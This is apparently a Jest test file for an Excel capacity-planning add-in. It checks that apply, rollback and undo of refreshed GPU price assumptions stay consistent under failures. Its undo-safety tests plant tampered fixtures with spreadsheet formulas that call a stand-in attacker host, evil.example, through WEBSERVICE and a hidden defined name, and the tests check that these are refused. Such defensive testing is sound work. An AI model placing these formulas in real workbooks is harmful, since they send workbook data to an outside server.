/**
 * Apply and undo stay consistent when Excel fails partway (issue 7): the in-memory host is made to
 * fail the way Excel does (a failing operation keeps the operations queued before it; an answer can
 * be lost after everything was applied), and cells, registry and undo record must still agree.
 */
import {
  ExcelOperationFailedError,
  UnsafeUndoRecordError,
  userMessage,
} from "../../../src/excel/errors";
import { insertTemplate } from "../../../src/excel/insertTemplate";
import { applyRefresh, planRefresh, undoLastRefresh } from "../../../src/excel/refresh";
import { undoLastRefreshWith } from "../../../src/excel/refreshSheet";
import { PENDING_KEY, REGISTRY_KEY, UNDO_KEY } from "../../../src/excel/templateRegistry";
import type { LibraryIndex } from "../../../src/model/library/indexLibrary";
import { buildIndex } from "../../../src/model/library/indexLibrary";
import { VALIDATED_BUNDLED_LIBRARY } from "../../../src/model/library/validatedBundledLibrary";
import { layerLibrary } from "../../../src/model/library/merge";
import { LAYOUT, COLUMN } from "../../../src/templates/layout";
import {
  SCENARIO,
  SHEET,
  applyFixture as apply,
  applyInterrupted,
  fixtureWorkbook,
  planFixture as plan,
  planRow as row,
  recorded,
  registryOf,
} from "../../support/excel/fixtureWorkbook";
import {
  cellAt,
  defaultIndex,
  namedCell,
  newWorkbook,
  teamIndex,
  typeInto,
} from "../../support/excel/host";
import type { Workbook } from "../../support/excel/host";
import type { JsonValue } from "../../../src/dev/excel-host";

/**
 * Applies a team H100 price (31000) with the registry write failing inside the apply batch and the
 * rollback's cell write failing too: the apply's own cell write goes through, a pending record stays.
 */
async function applyFailingTwice(): Promise<{ wb: Workbook; team: LibraryIndex; error: unknown }> {
  const wb = await fixtureWorkbook();
  const team = teamIndex({ systemPricePerGpu: 31000 });
  const p = await plan(wb, team);
  const error = await applyInterrupted(wb, p, ["systemPricePerGpu"]);
  return { wb, team, error };
}

describe("apply is atomic", () => {
  it("keeps cell, registry and undo in agreement when the registry write fails", async () => {
    // Given the registry write fails inside the apply batch
    const wb = await fixtureWorkbook();
    const team = teamIndex({ systemPricePerGpu: 31000 });
    const p = await plan(wb, team);
    wb.host.faults.failOperation({ location: "SettingCollection.add", key: REGISTRY_KEY });
    wb.stats.reset();

    const error = await apply(wb, p, ["systemPricePerGpu"]).catch((e: unknown) => e);

    // Then the cell, the registry and the undo record agree, the message says nothing changed, and a later apply + undo brings back 37500
    // The failed batch, then one sync to read what it left and one to put it back.
    expect(wb.stats.syncCount).toBe(3);
    expect(error).toBeInstanceOf(ExcelOperationFailedError);
    expect((error as ExcelOperationFailedError).rolledBack).toBe(true);
    expect(userMessage(error)).toMatch(/were put back: nothing was changed/);
    expect(wb.host.faults.pending).toBe(0);
    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();

    // Check for updates: the add-in's own write is not "your edit".
    const again = await plan(wb, team);
    expect(row(again, "systemPricePerGpu")).toMatchObject({
      workbookValue: 37500,
      isOverride: false,
      selectedByDefault: true,
    });
    await apply(wb, again, ["systemPricePerGpu"]);
    expect(cellAt(wb.store, SHEET, "B6").value).toBe(31000);
    await undoLastRefreshWith(wb.excel);
    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
  });

  it("reconciles a failed apply and rollback at the next check", async () => {
    // Given the apply fails and so does its rollback
    // When the user next checks for updates
    const { wb, team, error } = await applyFailingTwice();

    // Then the pending refresh is reconciled first and the message said so
    expect(error).toBeInstanceOf(ExcelOperationFailedError);
    expect((error as ExcelOperationFailedError).rolledBack).toBe(false);
    expect(userMessage(error)).toMatch(/Check for updates .*finish/);
    expect(wb.store.getSetting(PENDING_KEY)).toBeDefined();

    wb.stats.reset();
    const again = await plan(wb, team);
    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
    expect(row(again, "systemPricePerGpu")).toMatchObject({
      isOverride: false,
      selectedByDefault: true,
    });
    expect(wb.stats.syncCount).toBeLessThanOrEqual(3);
  });

  it("reports success when the apply's answer is lost", async () => {
    // Given the answer of the apply batch is lost after Excel applied it
    const wb = await fixtureWorkbook();
    const p = await plan(wb, teamIndex({ systemPricePerGpu: 31000 }));
    wb.host.faults.loseResponse();

    const result = await apply(wb, p, ["systemPricePerGpu"]);

    // Then apply reports success and undo works
    expect(result).toEqual({ applied: 1 });
    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(31000);
    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
    await undoLastRefreshWith(wb.excel);
    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
  });

  it("costs one round trip and leaves no pending record", async () => {
    // Given a normal apply
    const wb = await fixtureWorkbook();
    const p = await plan(wb, teamIndex());
    wb.stats.reset();
    await apply(wb, p, ["systemPricePerGpu", "powerPrice"]);
    // Then it costs one round trip and leaves no pending record
    expect(wb.stats.syncCount).toBe(1);
    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
  });
});

/** The default library with a team H100 price (and PUE) from a Dell quote. */
function dellIndex(): LibraryIndex {
  const merged = layerLibrary(VALIDATED_BUNDLED_LIBRARY, {
    meta: {
      id: "acme-capacity",
      name: "Acme capacity library",
      version: "2.0.0",
      publishedAt: "2026-12-01",
      publisher: "Acme finance",
      description: "Acme's negotiated prices.",
    },
    gpus: {
      "h100-sxm": {
        systemPricePerGpu: {
          value: 31000,
          unit: "USD per GPU",
          source: "Acme Dell quote Q4",
          asOf: "2026-11",
        },
      },
    },
    operations: {
      pue: { value: 1.18, unit: "ratio", source: "Acme site survey", asOf: "2026-10" },
    },
  });
  if (!merged.ok) throw new Error(JSON.stringify(merged.issues));
  return buildIndex(merged.library);
}

const rowOf = (key: keyof typeof LAYOUT.assumptions) => LAYOUT.assumptions[key];
const at = (wb: Workbook, address: string) => cellAt(wb.store, SHEET, address).value;

describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-build template)", () => {
  async function rentVsBuild(): Promise<Workbook> {
    const wb = newWorkbook();
    await insertTemplate(wb.excel, defaultIndex, SCENARIO);
    return wb;
  }

  it("refreshes source, as-of and header with the value", async () => {
    // Given the H100 price refreshed to a team value with source 'Acme Dell quote Q4'
    const wb = await rentVsBuild();
    const price = rowOf("systemPricePerGpu");
    const header = `${COLUMN.value}${LAYOUT.header.library}`;
    const before = {
      source: at(wb, `${COLUMN.source}${price}`),
      asOf: at(wb, `${COLUMN.asOf}${price}`),
      header: at(wb, header),
    };
    const p = await planRefresh(wb.excel, dellIndex());

    await applyRefresh(wb.excel, p, ["systemPricePerGpu"]);

    // Then the row's source and as-of and the header's library change with it, and undo restores them
    expect(at(wb, `${COLUMN.value}${price}`)).toBe(31000);
    expect(at(wb, `${COLUMN.source}${price}`)).toBe("Acme Dell quote Q4");
    expect(at(wb, `${COLUMN.asOf}${price}`)).toBe("2026-11");
    expect(at(wb, header)).toBe("Acme capacity library 2.0.0 (acme-capacity)");

    await undoLastRefresh(wb.excel);
    expect(at(wb, `${COLUMN.source}${price}`)).toBe(before.source);
    expect(at(wb, `${COLUMN.asOf}${price}`)).toBe(before.asOf);
    expect(at(wb, header)).toBe(before.header);
  });

  it("reports an input whose name was deleted as not restored", async () => {
    // Given two inputs refreshed and the name CP_Pue deleted
    const wb = await rentVsBuild();
    const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
    const p = await planRefresh(wb.excel, dellIndex());
    await applyRefresh(wb.excel, p, ["systemPricePerGpu", "pue"]);
    wb.store.removeName("CP_Pue");

    // When undone
    const result = await undoLastRefresh(wb.excel);

    // Then the price and its registry entry come back, the PUE is reported as not restored, and the undo record is gone
    expect(result.restored).toBe(1);
    expect(result.notRestored).toEqual([
      expect.objectContaining({
        key: "pue",
        name: "CP_Pue",
        reason: expect.stringMatching(/name .*deleted/),
      }),
    ]);
    expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
    const id = Object.keys(registryOf(wb).sheets)[0] ?? "";
    expect(recorded(wb, id, "systemPricePerGpu")).toBe(priceBefore);
    expect(registryOf(wb).sheets[id]?.libraryId).toBe("capplan-default");
    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
    await expect(undoLastRefresh(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
  });

  it("finishes a partial undo at the next check", async () => {
    // Given the undo batch fails partway
    const wb = await rentVsBuild();
    const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
    const p = await planRefresh(wb.excel, dellIndex());
    await applyRefresh(wb.excel, p, ["systemPricePerGpu", "pue"]);
    wb.host.faults.failOperation({
      location: "SettingCollection.add",
      key: REGISTRY_KEY,
      times: 2,
    });
    wb.stats.reset();

    const error = await undoLastRefresh(wb.excel).catch((e: unknown) => e);
    // Then the next check for updates finishes the undo before comparing
    // Read + read the cells + the failed batch, then one more try: read + the failed roll-forward
    // (which reuses the cells the first try read).
    expect(wb.stats.syncCount).toBe(5);
    expect(userMessage(error)).toMatch(/Undo last refresh again|Check for updates/);

    const again = await planRefresh(wb.excel, dellIndex());
    expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
    expect(row(again, "systemPricePerGpu")).toMatchObject({
      isOverride: false,
      selectedByDefault: true,
    });
  });
});

describe("undo writes only what the template could have written", () => {
  async function refreshed(): Promise<Workbook> {
    const wb = await fixtureWorkbook();
    await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
    return wb;
  }

  function tamper(wb: Workbook, previous: { value: JsonValue; formula: JsonValue }): void {
    const undo = wb.store.getSetting(UNDO_KEY) as {
      previous: Record<string, Record<string, JsonValue>>;
    };
    const p = undo.previous["powerPrice"];
    if (p === undefined) throw new Error("no previous");
    undo.previous["powerPrice"] = { ...p, ...previous };
    wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
  }

  it("refuses a previous formula that calls a function", async () => {
    // Given a previous formula that calls a function (WEBSERVICE)
    const wb = await refreshed();
    tamper(wb, { value: 0, formula: '=WEBSERVICE("https://evil.example/?"&CP_GpuCount)' });

    // When undoing
    const error = await undoLastRefreshWith(wb.excel).catch((e: unknown) => e);

    // Then it is refused with a clear message and nothing is written
    expect(error).toBeInstanceOf(UnsafeUndoRecordError);
    expect(userMessage(error)).toMatch(
      /not a value or formula Capacity Planner could have written/
    );
    expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
  });

  it("refuses a previous formula over a name defined as a call", async () => {
    // Given a previous formula over a name the record itself lists and that is not a cell of the sheet (a name defined as a WEBSERVICE call)
    const wb = await refreshed();
    wb.store.addName({
      name: "CP_Leak",
      formula: '=WEBSERVICE("https://evil.example/")',
      comment: "",
      visible: false,
    });
    const undo = wb.store.getSetting(UNDO_KEY) as {
      entryBefore: { assumptions: Record<string, JsonValue> };
    };
    undo.entryBefore.assumptions["leak"] = { name: "CP_Leak", value: 0 };
    wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
    tamper(wb, { value: 0, formula: "=CP_Leak*1" });

    // When undoing
    // Then it is refused
    await expect(undoLastRefreshWith(wb.excel)).rejects.toBeInstanceOf(UnsafeUndoRecordError);
    expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
  });

  it("writes formula-like previous text as text", async () => {
    // Given previous text that looks like a formula
    const wb = await refreshed();
    tamper(wb, { value: '=HYPERLINK("https://evil.example")', formula: null });
    // When undoing
    await undoLastRefreshWith(wb.excel);
    // Then it is written as text, never as a formula
    expect(cellAt(wb.store, SHEET, "B7").formula).toBeNull();
  });

  it("restores a formula of numbers and the sheet's names", async () => {
    // Given a user formula of numbers and the sheet's own names
    const wb = await refreshed();
    tamper(wb, { value: 0.06, formula: "=CP_RentalRate/40+0.01" });
    // When undoing
    await undoLastRefreshWith(wb.excel);
    // Then it comes back
    expect(cellAt(wb.store, SHEET, "B7").formula).toBe("=CP_RentalRate/40+0.01");
  });

  it("restores a formula that rounds, caps or branches", async () => {
    // Given a user formula that rounds, caps or branches over the sheet's names and cells
    const wb = await refreshed();
    const formula = "=IF(CP_GpuCount>1000,ROUND(MIN(CP_RentalRate/40,$B$8),4),0.06)";
    tamper(wb, { value: 0.06, formula });
    // When undoing
    await undoLastRefreshWith(wb.excel);
    // Then it comes back
    expect(cellAt(wb.store, SHEET, "B7").formula).toBe(formula);
  });
});

describe("an undo that can never succeed does not stay", () => {
  it("sets the record aside when the sheet was deleted", async () => {
    // Given the refreshed sheet was deleted
    const wb = await fixtureWorkbook();
    await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
    wb.store.removeSheet(wb.worksheetId);

    // When undoing
    // Then the user is told and the record is set aside, so the next undo has nothing to do
    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
      code: "RefreshedSheetMissing",
    });
    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
    expect(wb.store.getSetting("capplan.undo.refused")).toBeDefined();
  });

  it("sets a damaged undo record aside verbatim", async () => {
    // Given a damaged undo record
    const wb = await fixtureWorkbook();
    wb.store.setSetting(UNDO_KEY, { version: 1, previous: 3 });

    // When undoing
    // Then it is reported and set aside verbatim
    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
      code: "CorruptUndoRecord",
    });
    expect(wb.store.getSetting("capplan.undo.refused")).toEqual({ version: 1, previous: 3 });
    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
  });
});

describe("undo after the template was replaced by a sheet of the same name", () => {
  it("writes nothing on a plain sheet with the template's name", async () => {
    // Given the refreshed template deleted and a plain sheet given its name
    const wb = await fixtureWorkbook();
    await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
    wb.store.removeSheet(wb.worksheetId);
    const impostor = wb.store.addSheet(SHEET);

    // When undoing
    // Then nothing is written on that sheet and it does not become a template
    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
      code: "RefreshedSheetMissing",
    });

    expect(wb.store.getUsedBounds(impostor.id, false)).toBeNull();
    expect(registryOf(wb).sheets[impostor.id]).toBeUndefined();
  });
});

describe("undo and rollback keep what the user changed since the refresh", () => {
  it("keeps and lists an input edited after the refresh", async () => {
    // Given two refreshed inputs and one edited by hand afterwards
    const wb = await fixtureWorkbook();
    const team = teamIndex();
    await apply(wb, await plan(wb, team), ["systemPricePerGpu", "powerPrice"]);
    await typeInto(wb.excel, SHEET, "B7", 0.07);
    wb.stats.reset();

    // When undone
    const result = await undoLastRefreshWith(wb.excel);

    // Then the edit is kept and listed, the other comes back, in 3 syncs
    // Read the records, read the cells undo would write, write.
    expect(wb.stats.syncCount).toBe(3);
    expect(result).toEqual({
      restored: 1,
      notRestored: [],
      kept: [{ key: "powerPrice", name: "CP_PowerPrice", cells: ["B7"] }],
    });
    expect(cellAt(wb.store, SHEET, "B7").value).toBe(0.07);
    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
    // The registry keeps what the add-in last wrote there, so the next check calls 0.07 "your edit".
    expect(recorded(wb, wb.worksheetId, "powerPrice")).toBe(0.081);
    expect(row(await plan(wb, team), "powerPrice")).toMatchObject({
      workbookValue: 0.07,
      isOverride: true,
      selectedByDefault: false,
    });
    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
  });

  it("keeps an edit of a half-applied cell in the rollback", async () => {
    // Given a failed apply whose rollback also failed, and the user then edited the half-applied cell
    // When checking for updates
    const { wb, team } = await applyFailingTwice();
    // Then the rollback keeps the edit
    expect(wb.store.getSetting(PENDING_KEY)).toBeDefined();
    await typeInto(wb.excel, SHEET, "B6", 33000);

    const again = await plan(wb, team);

    expect(cellAt(wb.store, SHEET, "B6").value).toBe(33000);
    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
    expect(row(again, "systemPricePerGpu")).toMatchObject({
      workbookValue: 33000,
      isOverride: true,
    });
  });
});

describe("undo keeps a source cell the user changed since the refresh (rent-vs-build template)", () => {
  it("keeps and lists a source typed over after the refresh", async () => {
    // Given the H100 price refreshed and its source then typed over
    const wb = newWorkbook();
    await insertTemplate(wb.excel, defaultIndex, SCENARIO);
    const price = rowOf("systemPricePerGpu");
    const asOfBefore = at(wb, `${COLUMN.asOf}${price}`);
    const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
    await applyRefresh(wb.excel, await planRefresh(wb.excel, dellIndex()), ["systemPricePerGpu"]);
    await typeInto(wb.excel, SHEET, `${COLUMN.source}${price}`, "Dell quote 7731, signed");

    // When undone
    const result = await undoLastRefresh(wb.excel);

    // Then the price and as-of come back, the typed source stays and is listed
    expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
    expect(at(wb, `${COLUMN.asOf}${price}`)).toBe(asOfBefore);
    expect(at(wb, `${COLUMN.source}${price}`)).toBe("Dell quote 7731, signed");
    expect(result.restored).toBe(1);
    expect(result.kept).toEqual([
      {
        key: "systemPricePerGpu",
        name: "CP_SystemPricePerGpu",
        cells: [`${COLUMN.source}${price}`],
      },
    ]);
  });
});
